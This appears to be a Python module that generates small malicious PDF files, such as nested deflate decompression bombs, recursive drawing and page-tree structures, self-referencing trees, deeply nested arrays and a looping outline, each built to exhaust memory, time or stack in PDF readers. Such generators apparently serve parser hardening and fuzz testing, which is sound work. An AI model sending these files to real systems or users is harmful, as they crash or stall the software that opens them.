"""PDFs of a few kilobytes that eat memory, time or stack in whatever opens them; made anew on each call."""

from __future__ import annotations

import zlib


def assembled(objects: list[bytes]) -> bytes:
    """A PDF of these objects, numbered from 1; the first one is the catalogue."""
    parts, offsets, length = [b"%PDF-1.7\n"], [], 9
    for number, content in enumerate(objects, start=1):
        offsets.append(length)
        parts += [b"%d 0 obj\n" % number, content, b"\nendobj\n"]
        length += sum(map(len, parts[-3:]))
    table = b"".join(b"%010d 00000 n \n" % offset for offset in offsets)
    size = len(objects) + 1
    end = b"trailer\n<< /Size %d /Root 1 0 R >>\nstartxref\n%d\n%%%%EOF\n" % (size, length)
    return b"".join(parts) + b"xref\n0 %d\n0000000000 65535 f \n" % size + table + end


def stream(entries: bytes, data: bytes) -> bytes:
    return b"<< " + entries + b" /Length %d >>\nstream\n" % len(data) + data + b"\nendstream"


def one_page(contents: bytes, resources: bytes = b"", *more: bytes) -> bytes:
    """`contents` is object 4, the font 5, `more` begins with 6."""
    return assembled(
        [
            b"<< /Type /Catalog /Pages 2 0 R >>",
            b"<< /Type /Pages /Kids [3 0 R] /Count 1 >>",
            b"<< /Type /Page /Parent 2 0 R /MediaBox [0 0 420 595] /Contents 4 0 R "
            b"/Resources << /Font << /F1 5 0 R >> " + resources + b" >> >>",
            contents,
            b"<< /Type /Font /Subtype /Type1 /BaseFont /Helvetica >>",
            *more,
        ]
    )


def deflated(start: bytes, unit: bytes, count: int, times: int = 2) -> bytes:
    """`start` and then `unit` so often, deflated so many times over."""
    press = zlib.compressobj(9)
    parts = [press.compress(start)]
    block = unit * 10_000
    parts += [press.compress(block) for _ in range(count // 10_000)]
    packed = b"".join(parts) + press.flush()
    for _ in range(times - 1):
        packed = zlib.compress(packed, 9)
    return packed


def text_bomb() -> bytes:
    """4 kB; drawn, the page holds 40 million characters."""
    packed = deflated(b"BT /F1 12 Tf 40 500 Td ", b"(aaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaa) Tj ", 1_000_000)
    return one_page(stream(b"/Filter [/FlateDecode /FlateDecode]", packed))


def stream_bomb() -> bytes:
    """The page's contents unpack to 900 MB of blanks."""
    packed = deflated(b"BT ", b" " * 900, 1_000_000, times=3)
    return one_page(stream(b"/Filter [/FlateDecode /FlateDecode /FlateDecode]", packed))


def stream_array_bomb() -> bytes:
    """The page names one stream of 100 MB forty times."""
    packed = deflated(b"q ", b" " * 100, 1_000_000, times=2)
    data = one_page(stream(b"/Filter [/FlateDecode /FlateDecode]", packed))
    return data.replace(b"/Contents 4 0 R ", b"/Contents [" + b"4 0 R " * 40 + b"] ")


def path_bomb() -> bytes:
    """Two million path segments, each an object in memory."""
    packed = deflated(b"0 0 m ", b"1 1 l 2 2 3 3 4 4 c ", 4_000_000)
    return one_page(stream(b"/Filter [/FlateDecode /FlateDecode]", packed))


def drawing_bomb() -> bytes:
    """Ten drawings, each made of ten of the next: ten billion operations in all."""
    forms = []
    for level in range(10):
        names = b"/XObject << /X %d 0 R >>" % (7 + level) if level < 9 else b""
        draw = b"/X Do " * 10 if level < 9 else b"BT /F1 9 Tf (words) Tj ET"
        entries = b"/Type /XObject /Subtype /Form /BBox [0 0 9 9] /Resources << /Font << /F1 5 0 R >> " + names + b" >>"
        forms.append(stream(entries, draw))
    return one_page(stream(b"", b"/X Do " * 10), b"/XObject << /X 6 0 R >>", *forms)


def page_tree_bomb() -> bytes:
    """A tree in which each of nine levels names the next one ten times: a billion pages."""
    objects = [b"<< /Type /Catalog /Pages 2 0 R >>"]
    for level in range(9):
        kids = b"%d 0 R " % (3 + level) * 10
        objects.append(b"<< /Type /Pages /Kids [" + kids + b"] /Count %d >>" % 10 ** (9 - level))
    objects.append(b"<< /Type /Page /MediaBox [0 0 9 9] >>")
    return assembled(objects)


def endless_page_tree() -> bytes:
    """A page tree that is its own child, and claims two billion pages."""
    return assembled(
        [
            b"<< /Type /Catalog /Pages 2 0 R >>",
            b"<< /Type /Pages /Kids [2 0 R 2 0 R] /Count 2147483647 /Parent 2 0 R >>",
        ]
    )


def nested_arrays() -> bytes:
    """Two hundred thousand arrays, each inside the one before."""
    depth = 200_000
    return one_page(stream(b"", b"BT /F1 12 Tf 40 500 Td (words) Tj ET"), b"/ExtGState " + b"[" * depth + b"]" * depth)


def nested_contents() -> bytes:
    """A drawing operation whose operand is a million nested arrays, and a million saved states."""
    return one_page(stream(b"/Filter /FlateDecode", zlib.compress(b"q " * 1_000_000 + b"[" * 1_000_000)))


def character_map_bomb() -> bytes:
    """A font whose map names ranges of four billion letters a thousand times."""
    ranges = b"1000 beginbfrange\n" + b"<00000000> <FFFFFFFF> <00000041>\n" * 1000 + b"endbfrange\n"
    cmap = (
        b"/CIDInit /ProcSet findresource begin begincmap 1 begincodespacerange <00000000> <FFFFFFFF> endcodespacerange "
    )
    font = (
        b"<< /Type /Font /Subtype /Type0 /BaseFont /A /Encoding /Identity-H /ToUnicode 7 0 R "
        b"/DescendantFonts [8 0 R] >>"
    )
    return one_page(
        stream(b"", b"BT /F2 12 Tf 40 500 Td <00410042> Tj ET"),
        b"",
        font,
        stream(b"/Filter /FlateDecode", zlib.compress(cmap + ranges + b"endcmap end end")),
        b"<< /Type /Font /Subtype /CIDFontType2 /BaseFont /A "
        b"/CIDSystemInfo << /Registry (A) /Ordering (I) /Supplement 0 >> "
        b"/W [0 [" + b"500 " * 1000 + b"]] >>",
    ).replace(b"/F1 5 0 R", b"/F1 5 0 R /F2 6 0 R")


def outline_loop() -> bytes:
    """An outline in which every entry leads back to the first one."""
    return assembled(
        [
            b"<< /Type /Catalog /Pages 2 0 R /Outlines 6 0 R /PageLabels << /Nums [0 << /S /D /St 2147483647 >>] >> >>",
            b"<< /Type /Pages /Kids [3 0 R] /Count 1 >>",
            b"<< /Type /Page /Parent 2 0 R /MediaBox [0 0 420 595] /Contents 4 0 R "
            b"/Resources << /Font << /F1 5 0 R >> >> >>",
            stream(b"", b"BT /F1 12 Tf 40 500 Td (The key hangs behind the door.) Tj ET"),
            b"<< /Type /Font /Subtype /Type1 /BaseFont /Helvetica >>",
            b"<< /Type /Outlines /First 7 0 R /Last 8 0 R /Count 2 >>",
            b"<< /Title (one) /Parent 8 0 R /First 8 0 R /Next 8 0 R /Dest [3 0 R /Fit] >>",
            b"<< /Title (two) /Parent 7 0 R /First 7 0 R /Next 7 0 R /Dest [3 0 R /Fit] >>",
        ]
    )


def object_stream_bomb() -> bytes:
    """Its table of objects lies in a stream that unpacks to 500 MB and claims a hundred million objects."""
    packed = deflated(b"", b"\x01\xff\xff\xff\xff", 100_000_000, times=1)
    table = stream(
        b"/Type /XRef /Size 100000000 /W [1 2 2] /Root 1 0 R /Filter /FlateDecode /Index [0 100000000]", packed
    )
    body = b"%PDF-1.7\n1 0 obj\n<< /Type /Catalog /Pages 2 0 R >>\nendobj\n"
    return body + b"9 0 obj\n" + table + b"\nendobj\nstartxref\n%d\n%%%%EOF\n" % len(body)
